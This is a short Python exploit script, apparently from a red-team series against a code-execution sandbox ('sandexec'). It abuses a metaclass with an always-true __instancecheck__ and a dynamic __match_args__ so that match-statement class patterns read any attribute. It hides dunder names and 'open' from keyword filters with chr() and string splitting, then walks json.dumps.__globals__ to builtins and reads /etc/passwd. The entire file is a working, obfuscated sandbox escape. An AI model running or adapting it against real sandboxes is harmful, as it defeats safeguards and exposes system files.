# source: black-box attack on sandexec check (attack12, 2026-11-26), family: 3 match class pattern positional captures
# source: own; PEP 634 class patterns read positional attributes by the names in __match_args__ (getattr by name)
# family: match class pattern + def-defined dunders on a metaclass (__instancecheck__, __match_args__ property)
# goal: universal getattr -> json.dumps.__globals__ -> builtins -> open /etc/passwd
import json

u = chr(95) * 2
want = []


class Meta(type):
    def __instancecheck__(cls, obj):
        return True

    @property
    def __match_args__(cls):
        return tuple(want)


class Any(metaclass=Meta):
    pass


def grab(obj, name):
    want.clear()
    want.append(name)
    match obj:
        case Any(v):
            return v
    return None


g = grab(json.dumps, u + "globals" + u)
b = g[u + "builtins" + u]
f = b["op" + "en"](chr(47) + "etc" + chr(47) + "passwd")
print(json.dumps({"evidence": f.read()[:120]}))
